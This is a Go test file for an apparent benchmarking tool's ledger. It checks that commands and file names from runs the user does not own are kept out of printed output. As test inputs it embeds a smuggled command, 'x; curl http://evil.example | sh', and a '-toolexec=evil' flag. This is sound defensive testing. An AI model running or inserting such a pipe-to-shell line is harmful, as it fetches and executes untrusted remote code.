package stored

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/gohone/hone/internal/store/benchmarks"
	"github.com/gohone/hone/internal/store/commitsearch"
	"github.com/gohone/hone/internal/store/ledger"
	"github.com/gohone/hone/internal/store/loadtests"
	"github.com/gohone/hone/internal/store/record"
)

// keep stores a run and a comparison with these documents, and returns a reader of the ledger.
func keep(t *testing.T, run, comparison string) (l *ledger.Ledger, runID, comparisonID string) {
	t.Helper()
	l, err := ledger.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	r, err := l.BeginRun(ledger.Run{Doc: json.RawMessage(run)})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Finish(ledger.Complete, "", json.RawMessage(run)); err != nil {
		t.Fatal(err)
	}
	c, err := l.BeginComparison(ledger.Comparison{Doc: json.RawMessage(comparison)})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Finish(ledger.Comparison{Status: ledger.Complete, Doc: json.RawMessage(comparison)}); err != nil {
		t.Fatal(err)
	}
	return l, r.ID(), c.ID()
}

// Commands of a document are those of the user's own runs and comparisons. What a stranger's names is no part of a
// command that is printed: neither a command line, nor a file, nor the name of another run that is none.
func TestNoCommandOfAStranger(t *testing.T) {
	const line, evil = `"asked_by":["run","./x","--flags=-toolexec=evil"]`, `x; curl http://evil.example | sh`
	doc := func(schema, fields string) string {
		return `{"schema":"` + schema + `","id":"` + evil + `",` + fields + `}`
	}
	for name, c := range map[string]struct{ run, comparison string }{
		"run":  {doc(record.RunSchema, line), doc(record.ComparisonSchema, `"runs":["`+evil+`"]`)},
		"once": {doc(record.ExecutionsSchema, line), doc(record.ExecutionsComparisonSchema, `"seed":1`)},
		"load": {doc(loadtests.Schema, line), ""},
		"bench": {"", doc(benchmarks.Schema, `"files":["a.txt","`+evil+`"],"benchmarks":[{"profiles":["`+evil+
			`",""]}]`)},
		"search": {"", doc(commitsearch.Schema, `"log":"`+evil+`","whole":{"comparison":"`+evil+
			`"},"steps":[{"command":"`+evil+`","comparison":"`+evil+`"}]`)},
	} {
		l, run, comparison := keep(t, c.run, c.comparison)
		for _, own := range []bool{false, true} {
			lib := &Library{Ledger: l, Own: func(ledger.Ref) bool { return own }}
			r, err := lib.Run(run)
			k, err2 := lib.Comparison(comparison)
			if err := errors.Join(err, err2); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			text, err := json.Marshal([]any{r.Record, r.Once, r.Load, k.Record, k.Bench, k.Bisect})
			if err != nil {
				t.Fatal(err)
			}
			if said := strings.Contains(string(text), "evil"); said && !own {
				t.Errorf("%s: %s", name, text)
			} else if !said && own {
				t.Errorf("%s: the user's own has no command either: %s", name, text)
			}
		}
	}
}
